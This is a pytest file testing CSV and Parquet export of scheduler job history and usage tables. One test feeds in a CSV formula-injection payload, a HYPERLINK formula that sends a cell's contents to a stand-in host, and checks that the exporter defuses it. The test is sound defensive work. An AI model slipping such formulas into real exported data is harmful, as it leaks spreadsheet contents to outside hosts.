"""`rmsd history export` and `rmsd usage` with `--csv` and `--parquet`: tables for other tools."""

from __future__ import annotations

import csv
import gzip
import io
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from rmsd_cli.errors import CommandError
from rmsd_cli.table_files import FileColumn, write_csv, write_parquet
from rmsd_core.vocabulary import JobState
from rmsd_lab_cli.history.ended_jobs import COLUMNS, EndedJobs
from tests.commands import rmsd
from tests.live import Daemon

ORIGIN_US = 1_800_000_000_123_456
NAMES = [one.column.name for one in COLUMNS]


def view(job_id: int, **more: Any) -> dict[str, Any]:
    """Return a job as the API lists it, as far as the table has it."""
    known = {
        "job_id": job_id,
        "name": f"name-{job_id % 2}",
        "user": "ann" if job_id % 2 else "bob",
        "account": "",
        "qos": "normal",
        "partition": "batch",
        "state": "COMPLETED",
        "cause": "exit",
        "exit_code": 0,
        "signal": None,
        "submit_us": ORIGIN_US + job_id,
        "eligible_us": ORIGIN_US + job_id,
        "start_us": ORIGIN_US + 1_500_000,
        "end_us": ORIGIN_US + 3_500_000,
        "wait_s": 1.5,
        "elapsed_s": 2.0,
        "estimate_s": 60.0,
        "attempt": 1,
        "backfilled": bool(job_id % 2),
        "cpus": 4,
        "nodelist": "n[1-2]",
        "mem_mib": 100,
        "node_gres": ["gpu:a:0,1", "gpu:a:0"],
        "max_rss_mib": None,
    }
    return known | more


def rows(table: EndedJobs) -> list[dict[str, Any]]:
    return [dict(zip(NAMES, row, strict=True)) for row in table]


def test_columns_by_hand() -> None:
    views = [
        view(3, state="RUNNING", end_us=None, cause=None),
        view(2, name='a "b",\n', start_us=None, elapsed_s=None, node_gres=[], state="CANCELLED"),
        view(1),
    ]
    table = EndedJobs(views)
    assert (len(table), table.live) == (2, 1)
    first, second = rows(table)
    assert (first["job_id"], second["job_id"]) == (1, 2)
    assert first["submit_time_utc"] == ORIGIN_US + 1
    assert (first["run_s"], first["mem_per_node_mib"], first["attempts"]) == (2.0, 100, 1)
    assert (first["devices"], second["devices"]) == ("gpu:a:0,1|gpu:a:0", "")
    assert (first["backfilled"], second["backfilled"]) == (True, False)
    assert (second["start_time_utc"], second["run_s"], second["name"]) == (None, None, 'a "b",\n')
    assert [row["job_id"] for row in rows(EndedJobs(views, ORIGIN_US + 2))] == [2]


def test_without_names_there_are_numbers() -> None:
    table = EndedJobs([view(3), view(2, account="physics"), view(1)], anonymous=True)
    told = [(row["user"], row["name"], row["account"], row["qos"]) for row in rows(table)]
    assert told == [
        ("user1", "name1", "", "normal"),
        ("user2", "name2", "account1", "normal"),
        ("user1", "name1", "", "normal"),
    ]


def test_files_say_the_same(tmp_path: Path) -> None:
    import pyarrow.parquet

    columns = [one.column for one in COLUMNS]
    table = EndedJobs([view(2, start_us=None, exit_code=None, name='x,"y"\n\u00e9'), view(1)])
    write_csv(tmp_path / "jobs.csv", columns, table)
    write_csv(tmp_path / "jobs.csv.gz", columns, table)
    write_parquet(tmp_path / "jobs.parquet", columns, table)
    content = (tmp_path / "jobs.csv").read_bytes()
    assert gzip.decompress((tmp_path / "jobs.csv.gz").read_bytes()) == content
    head, first, second = csv.reader(io.StringIO(content.decode(), newline=""))
    assert head == NAMES
    shown = dict(zip(NAMES, second, strict=True))
    assert (shown["name"], shown["exit_code"], shown["start_time_utc"]) == ('x,"y"\n\u00e9', "", "")
    assert shown["submit_time_utc"] == "2027-01-15T08:00:00.123458Z"
    assert dict(zip(NAMES, first, strict=True))["backfilled"] == "true"
    found = pyarrow.parquet.read_table(tmp_path / "jobs.parquet")
    assert found.column_names == NAMES
    typed = found.to_pylist()
    assert typed[1]["submit_time_utc"] == datetime(2027, 1, 15, 8, 0, 0, 123458, UTC)
    assert (typed[1]["start_time_utc"], typed[1]["wait_s"]) == (None, 1.5)
    assert (typed[0]["backfilled"], typed[0]["job_id"]) == (True, 1)


@pytest.mark.slow
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t"])
def test_no_text_of_a_user_is_a_formula_of_a_spreadsheet(tmp_path: Path, sign: str) -> None:
    path, name = tmp_path / "jobs.csv", f'{sign}HYPERLINK("http://x/?"&B1)'
    write_csv(path, [FileColumn("name"), FileColumn("cpus", "int")], [[name, -1], [None, 2]])
    with path.open(newline="") as file:
        assert list(csv.reader(file))[1:] == [["'" + name, "-1"], ["", "2"]]


def test_a_long_history_takes_the_memory_of_a_part(tmp_path: Path) -> None:
    """Three times the jobs take no more of Python's memory."""

    def peak_of(count: int) -> int:
        tracemalloc.start()
        table = EndedJobs(view(at) for at in range(count))
        write_csv(tmp_path / "jobs.csv", [one.column for one in COLUMNS], table)
        write_parquet(tmp_path / "jobs.parquet", [one.column for one in COLUMNS], table)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return peak

    peak_of(100)  # imports
    assert peak_of(30_000) < 1.2 * peak_of(10_000)


def test_what_cannot_be_written_is_explained(tmp_path: Path) -> None:
    late = [[1 << 62]]
    with pytest.raises(CommandError, match="beyond all years"):
        write_csv(tmp_path / "late.csv", [FileColumn("at_time_utc", "time")], late)
    with pytest.raises(CommandError, match="a value of n cannot be written"):
        write_parquet(tmp_path / "n.parquet", [FileColumn("n", "int")], [[1 << 70]])
    with pytest.raises(CommandError, match=r"cannot write .*: No such file"):
        write_csv(tmp_path / "none/x.csv", [FileColumn("n", "int")], [[1]])
    with pytest.raises(CommandError, match="impossible value"):
        EndedJobs([view(1, cpus=1 << 70)])
    with pytest.raises(CommandError, match="impossible value"):
        EndedJobs([view(1), view(1)])


def test_without_pyarrow_it_says_what_to_install(tmp_path: Path) -> None:
    """Nothing is read before."""
    program = (
        "import sys; sys.modules['pyarrow'] = None\n"
        "from rmsd_cli.main import main\n"
        f"sys.argv = ['rmsd', *{{words}}, '--parquet', {str(tmp_path / 'x.parquet')!r},"
        " '--server', 'unix:/nonexistent.sock']\n"
        "main()\n"
    )
    for words in (["history", "export"], ["usage"]):
        done = subprocess.run(
            [sys.executable, "-c", program.format(words=words)], capture_output=True, text=True
        )
        assert done.returncode == 1
        assert "Parquet needs pyarrow (pip install '.[lab]' in rmsd's folder)" in done.stderr


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["history", "export", "--parquet", "-"], 2, "name a file that ends in .parquet"),
        (["history", "export", "--parquet", "x.parquet.gz"], 2, "name a file"),
        (["history", "export", "--csv", "x", "--swf", "y"], 2, "not allowed with"),
        (["usage", "--csv", "--parquet", "y"], 2, "not allowed with"),
    ],
)
def test_wrong_usage_is_explained(arguments: list[str], code: int, said: str) -> None:
    assert said in rmsd(*arguments, expect=code).stderr


def test_the_documents_tell_every_column() -> None:
    page = Path(__file__).parents[2] / "docs/admin-history.md"
    told = {
        words[1].strip(" `"): words[2].strip()
        for words in (line.split("|", 3) for line in page.read_text().splitlines())
        if len(words) == 4 and words[1].strip(" `") in NAMES
    }
    kinds = {"text": "text", "int": "integer", "float": "number", "bool": "true or false",
             "time": "time"}  # fmt: skip
    expected = {one.column.name: kinds[one.column.kind] for one in COLUMNS}
    assert told == expected
    for one in COLUMNS:
        meaning = one.meaning.replace("|", "\\|")
        assert f"| {kinds[one.column.kind]} | {meaning} |" in page.read_text(), one.column.name


@pytest.fixture
def daemon(start_daemon: Callable[..., Daemon]) -> Daemon:
    return start_daemon("--no-local-node", "--emulate", "1x4", "--rate", "1000")


@pytest.mark.slow
@pytest.mark.live
def test_the_tables_of_a_daemon(daemon: Daemon, tmp_path: Path) -> None:
    import pyarrow.parquet

    jobs = [daemon.emulate(10, name=f"job{at}") for at in range(3)]
    for job in jobs:
        assert daemon.wait(job)["state"] == JobState.COMPLETED
    server = ["--server", f"unix:{daemon.state}/rmsd.sock"]
    out = tmp_path / "jobs.parquet"
    shown = rmsd("history", "export", "--parquet", out, *server).stdout
    assert shown == f"{out}: 3 jobs (left out: 0 that are not over)\n"
    told = pyarrow.parquet.read_table(out).to_pylist()
    assert [row["job_id"] for row in told] == jobs
    assert {(row["state"], row["run_s"] >= 10, row["cpus"]) for row in told} == {
        ("COMPLETED", True, 1)
    }
    by_server = rmsd("history", "export", "--csv", "-", *server).stdout
    by_directory = rmsd("history", "export", "--csv", "-", daemon.state).stdout
    assert by_server == by_directory
    assert len(by_server.splitlines()) == 4
    used = tmp_path / "usage.parquet"
    assert rmsd("usage", "--parquet", used, *server).stdout == f"{used}: 1 rows\n"
    [row] = pyarrow.parquet.read_table(used).to_pylist()
    by_csv = rmsd("usage", "--csv", *server).stdout.splitlines()
    assert by_csv[0].split(",") == [*row]
    assert by_csv[1].split(",")[:3] == [row["user"], "3", "3"]
    assert float(by_csv[1].split(",")[3]) == row["processor_s"] >= 30
